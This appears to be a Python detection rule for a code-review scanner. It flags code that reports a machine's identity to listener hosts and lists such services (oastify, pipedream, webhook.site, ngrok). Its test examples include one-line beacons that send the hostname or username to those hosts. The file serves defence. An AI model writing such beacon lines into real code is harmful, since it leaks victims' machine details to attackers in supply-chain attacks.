"""Word sent to a host that does nothing but listen."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.malice.whole_file import View, asked, in_files
from hunkwise.signals.tables.attack import LISTENERS
from hunkwise.signals.tables.languages import CODE


def _look(unit: Unit, view: View) -> Iterator[Sighting]:
    found = LISTENERS.search(view.text)
    if not found:
        return
    told = asked(view)
    reaches = view.reaches_out or re.search(r"\b(?:nslookup|dig|ping|curl|wget|https?\.request|fetch|resolve|lookup)\b", view.lower)
    many = len({one.lower() for one in LISTENERS.findall(view.text)})
    if reaches and many <= 3:
        what = ", ".join(sorted(told)) or "that the code ran"
        yield Sighting((view.line(found.start()),), {"sink": found[0], "source": what}, strength=1.0 if told else 0.7)


_see = in_files(
    _look,
    "webhook.site",
    "requestbin",
    "pipedream",
    "burpcollaborator",
    "oastify",
    "interact.sh",
    "oast.",
    "canarytokens",
    "dnslog",
    "ceye.io",
    "beeceptor",
    "hookbin",
    "ngrok",
    "serveo",
    "requestrepo",
    "bxss",
    "xss.ht",
)


SIGNAL = Signal(
    id="listener-beacon",
    title="Word sent to a listening host",
    kind="payload",
    category="malicious-code",
    severity="critical",
    languages=CODE | {"batch", "manifest", "workflow", "json"},
    promise=(
        "Tells of code that names a host made only for listening (collaborators, request bins, tunnels) and talks to "
        "the network, louder where it asks who and where it is."
    ),
    why="Nothing but the news that it ran, and from where, is wanted there: so packages are tried on whole companies.",
    quiet="Lists of such hosts, and their names in comments.",
    remedy="Don't merge. Look for machines that ran it, and change what they held.",
    cause="`{sink}` is told {source}.",
    since="0.2",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1041",
    everywhere=True,
    see=_see,
    fires=(
        Example(
            "python", 'import socket\nimport requests\n\nrequests.get("https://abcdef.oastify.com/?h=" + socket.gethostname())\n', line=4
        ),
        Example(
            "javascript",
            'const os = require("os");\n'
            'const https = require("https");\n'
            'https.get("https://abc.pipedream.net/?u=" + os.userInfo().username);\n',
            line=3,
        ),
    ),
    stays_quiet=(
        Example(
            "python", 'BLOCKED = ("webhook.site", "oastify.com", "interact.sh", "ngrok.io")\n\ndef bad(host):\n    return host in BLOCKED\n'
        ),
        Example("python", 'import requests\n\n# curl https://abc.oastify.com\nrequests.get("https://example.org/")\n'),
    ),
)
